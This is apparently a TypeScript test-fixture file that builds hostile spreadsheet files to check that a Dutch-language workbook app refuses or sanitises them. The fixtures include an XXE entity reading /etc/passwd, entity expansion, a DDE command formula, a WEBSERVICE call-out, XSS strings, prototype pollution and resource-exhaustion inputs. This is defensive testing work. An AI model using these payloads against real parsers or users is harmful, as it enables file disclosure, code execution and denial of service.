import { strToU8, zipSync } from 'fflate';
import { columnLetters } from '../../src/workbook/a1';
import {
  file,
  filler,
  formula,
  linksPart,
  number,
  row,
  sheetFile,
  text,
  workbookPart,
  worksheet,
} from './hostile-parts';

/** Hostile file, and the expected reaction of the page: a refusal, or omissions. */
export interface Hostile {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** Words of the notice of refusal; null where it is opened. */
  readonly refused: RegExp | null;
  /** Words of the list of omissions; undefined without any. */
  readonly says?: RegExp;
}

const refused = (name: string, refusal: RegExp, make: () => Uint8Array): Hostile => ({ name, make, refused: refusal });
const opened = (name: string, make: () => Uint8Array, says?: RegExp): Hostile => ({
  name,
  make,
  refused: null,
  ...(says && { says }),
});

const times = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, i) => make(i)).join('');
const oneFormula = (content: string): Uint8Array => sheetFile(row(2, formula('A2', content)));
const names = (entries: string): string => workbookPart(['Blad1'], `<definedNames>${entries}</definedNames>`);
const truncated = (bytes: Uint8Array, part: number): Uint8Array => bytes.slice(0, Math.floor(bytes.length * part));
const notes = (ref: string): string =>
  `<comments xmlns="x"><authors><author>A</author></authors><commentList><comment ref="${ref}" authorId="0"><text><t>let op</t></text></comment></commentList></comments>`;
const noted = (part: string): Uint8Array =>
  file({
    'xl/worksheets/_rels/sheet1.xml.rels': linksPart([['comments', '../comments1.xml']]),
    'xl/comments1.xml': part,
  });
const shared = (part: string | null, rows: string): Uint8Array => sheetFile(rows, '', { 'xl/sharedStrings.xml': part });
const two = (second: string | null): Uint8Array =>
  file({
    'xl/workbook.xml': workbookPart(['Blad1', 'Blad2']),
    'xl/_rels/workbook.xml.rels': linksPart([
      ['worksheet', 'worksheets/sheet1.xml'],
      ['worksheet', 'worksheets/sheet2.xml'],
    ]),
    'xl/worksheets/sheet2.xml': second,
  });
const block = (rows: number): Uint8Array =>
  sheetFile(
    times(rows, (r) =>
      row(
        r + 2,
        times(10, (c) => number(columnLetters(c) + (r + 2), c)),
      ),
    ),
  );
const sheets = (count: number): Uint8Array =>
  file({
    'xl/workbook.xml': workbookPart(Array.from({ length: count }, (_, i) => `Blad${i + 1}`)),
    'xl/_rels/workbook.xml.rels': linksPart(
      Array.from({ length: count }, () => ['worksheet', 'worksheets/sheet1.xml'] as const),
    ),
  });
const setting = (entry: string): Uint8Array =>
  file({
    'xl/_rels/workbook.xml.rels': linksPart([
      ['worksheet', 'worksheets/sheet1.xml'],
      ['customXml', '../customXml/item1.xml'],
    ]),
    'customXml/item1.xml': `<settings xmlns="urn:nplv-workbench:settings">${entry}</settings>`,
  });
/** Zip whose directory has another size, method or flag for its first entry. */
const patched = (offset: number, value: number): Uint8Array => {
  const bytes = file();
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.length);
  for (let at = 0; at < bytes.length - 4; at++)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint16(at + offset, value, true);
  return bytes;
};

const containers: Hostile[] = [
  refused('leeg', /geen .xlsx/, () => new Uint8Array()),
  refused('een byte', /geen .xlsx/, () => new Uint8Array([0x50])),
  refused('tekst', /geen .xlsx/, () => strToU8('geen werkmap')),
  refused('html', /geen .xlsx/, () => strToU8('<html><table><tr><td>1</td></tr></table></html>')),
  refused(
    'oud xls of met wachtwoord',
    /wachtwoord/,
    () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0)]),
  ),
  refused('zip met wachtwoord', /wachtwoord/, () => patched(8, 1)),
  refused('onbekende pakmethode', /beschadigd/, () => patched(10, 99)),
  refused('andere zip', /geen .xlsx/, () => zipSync({ 'brief.txt': strToU8('tekst') })),
  refused('halve zip', /geen .xlsx|beschadigd/, () => truncated(file(), 0.5)),
  refused('zip zonder begin', /beschadigd/, () => file().slice(40)),
  refused('te veel delen', /te groot/, () =>
    zipSync(Object.fromEntries(Array.from({ length: 6000 }, (_, i) => [`xl/d${i}.xml`, new Uint8Array()]))),
  ),
  refused('werkmap geen XML', /beschadigd/, () => file({ 'xl/workbook.xml': '<workbook>' })),
  refused('werkmap leeg', /beschadigd/, () => file({ 'xl/workbook.xml': '' })),
  refused('werkmap zonder bladen', /geen blad/, () => file({ 'xl/workbook.xml': workbookPart([]) })),
  refused('geen enkel blad in het bestand', /geen blad/, () => file({ 'xl/worksheets/sheet1.xml': null })),
  refused('enige blad geen XML', /geen blad/, () => file({ 'xl/worksheets/sheet1.xml': 'geen XML' })),
  refused('koppelingen ontbreken', /geen blad/, () => file({ 'xl/_rels/workbook.xml.rels': null })),
  refused('koppelingen naar buiten', /geen blad/, () =>
    file({ 'xl/_rels/workbook.xml.rels': linksPart([['worksheet', 'https://example.invalid/blad.xml']]) }),
  ),
  refused('koppeling die geen adres is', /geen blad|beschadigd/, () =>
    file({ 'xl/_rels/workbook.xml.rels': linksPart([['worksheet', '//[']]) }),
  ),
  refused('werkmap met entiteiten', /entiteiten/, () =>
    file({
      'xl/workbook.xml': `<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${workbookPart(['&b;'])}`,
    }),
  ),
  refused('blad met entiteiten', /entiteiten/, () =>
    file({
      'xl/worksheets/sheet1.xml': `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${worksheet(row(1, text('A1', '&x;')))}`,
    }),
  ),
];

const sizes: Hostile[] = [
  refused('blad van 200 MB', /te groot/, () => file({ 'xl/worksheets/sheet1.xml': filler(200) })),
  refused('blad van 480 MB', /te groot/, () => file({ 'xl/worksheets/sheet1.xml': filler(480) })),
  opened('tien delen van 40 MB waar niets naar verwijst', () =>
    file(Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`xl/media/d${i}.xml`, filler(40)]))),
  ),
  refused('teksten van 150 MB', /te groot/, () => file({ 'xl/sharedStrings.xml': filler(150) })),
  refused('opmaak van 20 MB', /te groot/, () => file({ 'xl/styles.xml': filler(20) })),
  refused('werkmap van 20 MB', /te groot/, () => file({ 'xl/workbook.xml': filler(20) })),
  refused('500.000 cellen', /te groot/, () => block(50_000)),
  opened('60.000 cellen', () => block(6_000)),
  opened('200 bladen', () => sheets(200)),
  opened('400 bladen', () => sheets(400), /hoogstens 255 bladen/),
  opened(
    'tekst van 2 MB in een cel',
    () => sheetFile(row(2, text('A2', 'x'.repeat(2_000_000)))),
    /Blad1!A2: tekst afgekapt/,
  ),
  opened(
    'tekst van 40.000 tekens',
    () => sheetFile(row(2, text('A2', 'x'.repeat(40_000)))),
    /Blad1!A2: tekst afgekapt/,
  ),
  opened('duizend cellen van 32.767 tekens', () =>
    sheetFile(times(1_000, (r) => row(r + 2, text(`A${r + 2}`, 'woord '.repeat(5_461))))),
  ),
  refused('10.000 elementen diep', /geen blad/, () =>
    file({ 'xl/worksheets/sheet1.xml': worksheet('<a>'.repeat(10_000) + '</a>'.repeat(10_000)) }),
  ),
  opened('100.000 opmaken', () =>
    file({
      'xl/styles.xml': `<styleSheet xmlns="x"><cellXfs>${'<xf numFmtId="0"/>'.repeat(100_000)}</cellXfs></styleSheet>`,
    }),
  ),
];

const formulas: Hostile[] = [
  opened('formule van 100.000 tekens', () => oneFormula(`1${'+1'.repeat(50_000)}`), /Blad1!A2: de formule is langer/),
  opened(
    '60.000 haakjes',
    () => oneFormula(`${'('.repeat(60_000)}1${')'.repeat(60_000)}`),
    /Blad1!A2: de formule is langer/,
  ),
  opened(
    '4.000 haakjes',
    () => oneFormula(`${'('.repeat(4_000)}1${')'.repeat(4_000)}`),
    /Blad1!A2: de formule is langer/,
  ),
  opened('30.000 aanhalingstekens', () => oneFormula('"'.repeat(30_000)), /Blad1!A2: de formule is langer/),
  opened('8.000 aanhalingstekens', () => oneFormula('"'.repeat(8_000))),
  opened('vijftig formules van 8.000 aanhalingstekens', () =>
    sheetFile(times(50, (r) => row(r + 2, formula(`A${r + 2}`, `"${'"'.repeat(7_900)}"&amp;${r}`)))),
  ),
  opened('8.000 tekens optelling', () => oneFormula(`1${'+1'.repeat(4_000)}`), /Blad1!A2: de formule is langer/),
  opened('8.000 mintekens', () => oneFormula(`${'-'.repeat(8_000)}1`), /Blad1!A2: de formule is langer/),
  opened('64 niveaus IF', () => oneFormula(`${'IF(1,'.repeat(60)}1${',2)'.repeat(60)}`)),
  opened('kapotte formule', () => oneFormula('SUM((((')),
  opened('formule zonder zin', () => oneFormula('#$%^&amp;!!!{{{')),
  opened('MAKEARRAY van 5.000 × 5.000', () =>
    oneFormula('_xlfn.MAKEARRAY(5000,5000,_xlfn.LAMBDA(_xlpm.r,_xlpm.c,_xlpm.r*_xlpm.c))'),
  ),
  opened('MAKEARRAY van 900 × 900', () =>
    oneFormula('SUM(_xlfn.MAKEARRAY(900,900,_xlfn.LAMBDA(_xlpm.r,_xlpm.c,_xlpm.r*_xlpm.c)))'),
  ),
  opened('SEQUENCE zo groot als een blad', () => oneFormula('_xlfn.SEQUENCE(1048576,16384)')),
  opened('SEQUENCE van een miljoen rijen', () => oneFormula('_xlfn.SEQUENCE(1048576)')),
  opened('REPT zonder einde', () => oneFormula('REPT("x",2000000000)')),
  opened('300 sommen over het blad', () =>
    sheetFile(times(300, (r) => row(r + 2, formula(`B${r + 2}`, 'SUM($C$1:$XFD$1048576)')))),
  ),
  opened('300 sommen over elkaars kolommen', () =>
    sheetFile(times(300, (r) => row(r + 2, formula(`B${r + 2}`, `SUM(C:XFD)+${r}`)))),
  ),
  opened('alle cellen maal twee', () => oneFormula('SUM(C1:XFD1048576*2)')),
  opened('vermenigvuldiging van matrices', () =>
    oneFormula('SUM(MMULT(_xlfn.SEQUENCE(900,900),_xlfn.SEQUENCE(900,900)))'),
  ),
  opened('kringverwijzing van 2.000 cellen', () =>
    sheetFile(times(2_000, (r) => row(r + 2, formula(`A${r + 2}`, `A${r === 1_999 ? 2 : r + 3}+1`)))),
  ),
  opened('keten van 5.000 cellen', () =>
    sheetFile(times(5_000, (r) => row(r + 2, formula(`A${r + 2}`, `A${r + 1}+1`)))),
  ),
  opened('20.000 opzoekingen', () =>
    sheetFile(
      times(20_000, (r) =>
        row(r + 2, number(`A${r + 2}`, r) + formula(`B${r + 2}`, `VLOOKUP(${r},$A$2:$A$20001,1,FALSE)`)),
      ),
    ),
  ),
  opened('zichzelf aanroepende LAMBDA', () =>
    oneFormula('_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.g,_xlpm.g(_xlpm.g)),_xlpm.f(_xlpm.f))'),
  ),
  opened(
    'gedeelde formule zonder begin',
    () => sheetFile(row(2, '<c r="A2"><f t="shared" si="5"/><v>7</v></c>')),
    /Blad1!A2: de formule is onleesbaar/,
  ),
  opened('20.000 gedeelde formules', () =>
    sheetFile(
      `<row r="2"><c r="B2"><f t="shared" si="0" ref="B2:B20001">A2*2</f><v>1</v></c></row>${times(20_000, (r) => row(r + 3, `<c r="B${r + 3}"><f t="shared" si="0"/><v>1</v></c>`))}`,
    ),
  ),
  opened('matrix over het hele blad', () =>
    sheetFile(row(2, '<c r="A2"><f t="array" ref="A2:XFD1048576">A1*2</f><v>1</v></c>')),
  ),
  opened('formule die het net op wil', () => oneFormula('_xlfn.WEBSERVICE("https://example.invalid/"&amp;A1)')),
  opened('formule die een programma wil starten', () => oneFormula("cmd|' /C calc'!A0")),
];

const cells: Hostile[] = [
  opened('cel buiten het blad', () => sheetFile(row(2, number('XFE2', 1))), /XFE2: deze cel ligt buiten het blad/),
  opened(
    'cel onder het blad',
    () => sheetFile('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
    /A1048577: deze cel ligt buiten/,
  ),
  opened('rij nul', () => sheetFile('<row r="0"><c r="A0"><v>1</v></c></row>'), /A0: deze cel ligt buiten/),
  opened('rij van min een', () => sheetFile('<row r="-1"><c><v>1</v></c></row>'), /buiten het blad/),
  opened('laatste cel van het blad', () => sheetFile('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
  opened(
    'dezelfde cel twee keer',
    () => sheetFile(row(2, number('A2', 1) + number('A2', 2))),
    /Blad1!A2: deze cel staat twee keer/,
  ),
  opened('getal dat geen getal is', () => sheetFile(row(2, number('A2', 'abc'))), /Blad1!A2: dit getal is onleesbaar/),
  opened('getal zonder einde', () => sheetFile(row(2, number('A2', '1e999'))), /Blad1!A2: dit getal is onleesbaar/),
  opened(
    'gedeelde teksten ontbreken',
    () => shared(null, row(2, '<c r="A2" t="s"><v>0</v></c>')),
    /Blad1!A2: de tekst van deze cel ontbreekt/,
  ),
  opened(
    'verwijzing naar tekst -1',
    () => shared('<sst xmlns="x"><si><t>a</t></si></sst>', row(2, '<c r="A2" t="s"><v>-1</v></c>')),
    /Blad1!A2: de tekst/,
  ),
  refused('gedeelde teksten geen XML', /beschadigd/, () => shared('<sst><si>', row(2, '<c r="A2" t="s"><v>0</v></c>'))),
  opened('opmaak die er niet is', () => sheetFile(row(2, '<c r="A2" s="999"><v>1</v></c>')), /Blad1!A2: de opmaak/),
  opened('prototype als instelling', () => setting('<setting key="__proto__">{"polluted":true}</setting>')),
  opened(
    'instelling die geen JSON is',
    () => setting('<setting key="nplv.frozen">{{{</setting>'),
    /nplv\.frozen: deze instelling/,
  ),
  opened('getalnotatie van 20.000 tekens', () =>
    sheetFile(row(2, '<c r="A2" s="0"><v>1</v></c>'), '', {
      'xl/styles.xml': `<styleSheet xmlns="x"><numFmts><numFmt numFmtId="164" formatCode="${'0.'.repeat(10_000)}"/></numFmts><cellXfs><xf numFmtId="164"/></cellXfs></styleSheet>`,
    }),
  ),
  opened('HTML in tekst en bladnaam', () =>
    file({
      'xl/workbook.xml': workbookPart(['&lt;img src=x onerror=alert(1)&gt;']),
      'xl/worksheets/sheet1.xml': worksheet(
        row(1, number('A1', 1) + text('B1', '&lt;script&gt;window.polluted=1&lt;/script&gt;')),
      ),
    }),
  ),
];

const around: Hostile[] = [
  opened('een van twee bladen ontbreekt', () => two(null), /Blad2: dit blad ontbreekt/),
  opened('een van twee bladen geen XML', () => two('<worksheet><sheetData>'), /Blad2: dit blad is beschadigd/),
  opened(
    'samenvoeging van het hele blad',
    () => sheetFile('', '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    /Blad1!.*: samenvoeging/,
  ),
  opened(
    'samenvoegingen over elkaar',
    () =>
      sheetFile(row(2, number('C2', 1)), '<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C2"/></mergeCells>'),
    /Blad1!B2:C2: samenvoeging weggelaten/,
  ),
  opened(
    '20.000 samenvoegingen',
    () =>
      sheetFile(
        times(20_000, (r) => row(r + 2, number(`B${r + 2}`, r))),
        `<mergeCells>${times(20_000, (r) => `<mergeCell ref="A${r + 2}:B${r + 2}"/>`)}</mergeCells>`,
      ),
    /samenvoeging weggelaten/,
  ),
  opened(
    'filter over het hele blad',
    () => sheetFile(row(2, number('A2', 2)), '<autoFilter ref="A1:XFD1048576"/>'),
    /filter ingekort/,
  ),
  opened('filter met alleen een kop', () => sheetFile('', '<autoFilter ref="A1:C900"/>'), /filter weggelaten/),
  opened('filter buiten de cellen', () => sheetFile('', '<autoFilter ref="C900000:D900100"/>'), /filter weggelaten/),
  opened('notitie op de laatste cel', () => noted(notes('XFD1048576')), /Blad1!XFD1048576: notitie weggelaten/),
  opened('notitie buiten het blad', () => noted(notes('XFE1')), /notitie weggelaten/),
  opened('notities geen XML', () => noted('<comments>'), /notities van dit blad/),
  opened(
    '50.000 namen',
    () =>
      file({
        'xl/workbook.xml': names(times(50_000, (i) => `<definedName name="naam_${i}">Blad1!$A$1</definedName>`)),
      }),
    /hoogstens 1\.000 namen/,
  ),
  opened(
    'naam van 300 tekens',
    () => file({ 'xl/workbook.xml': names(`<definedName name="${'n'.repeat(300)}">Blad1!$A$1</definedName>`) }),
    /deze naam is ongeldig/,
  ),
  opened(
    'naam met een formule van 100.000 tekens',
    () => file({ 'xl/workbook.xml': names(`<definedName name="lang">1${'+1'.repeat(50_000)}</definedName>`) }),
    /lang: deze naam/,
  ),
  opened('namen die naar elkaar verwijzen', () =>
    sheetFile(row(2, formula('A2', 'een+1')), '', {
      'xl/workbook.xml': names(
        '<definedName name="een">twee+1</definedName><definedName name="twee">een+1</definedName>',
      ),
    }),
  ),
  opened(
    'bladnaam met verboden tekens',
    () => file({ 'xl/workbook.xml': workbookPart(['a/b:c[d]']) }),
    /andere naam gekregen/,
  ),
  opened(
    'twee bladen met dezelfde naam',
    () =>
      file({
        'xl/workbook.xml': workbookPart(['Kas', 'kas']),
        'xl/_rels/workbook.xml.rels': linksPart([
          ['worksheet', 'worksheets/sheet1.xml'],
          ['worksheet', 'worksheets/sheet1.xml'],
        ]),
      }),
    /andere naam gekregen/,
  ),
  opened('een miljoen vastgezette rijen', () =>
    file({
      'xl/worksheets/sheet1.xml': worksheet(
        row(1, number('A1', 1)),
        '',
        '<sheetViews><sheetView><pane ySplit="1000000" xSplit="16000" state="frozen"/></sheetView></sheetViews>',
      ),
    }),
  ),
  opened('kolommen en rijen zonder maat', () =>
    file({
      'xl/worksheets/sheet1.xml': worksheet(
        '<row r="1" ht="1e308" customHeight="1"><c r="A1"><v>1</v></c></row>',
        '',
        '<cols><col min="1" max="16384" width="1e308"/><col min="-5" max="NaN" width="x"/></cols>',
      ),
    }),
  ),
  opened('afdrukbereik dat niet bestaat', () =>
    file({
      'xl/workbook.xml': names('<definedName name="_xlnm.Print_Area" localSheetId="0">Blad9!$A$1:$ZZZ$9</definedName>'),
    }),
  ),
];

/** Hostile files, grouped by what they abuse. */
export const hostileFiles: readonly Hostile[] = [...containers, ...sizes, ...formulas, ...cells, ...around];
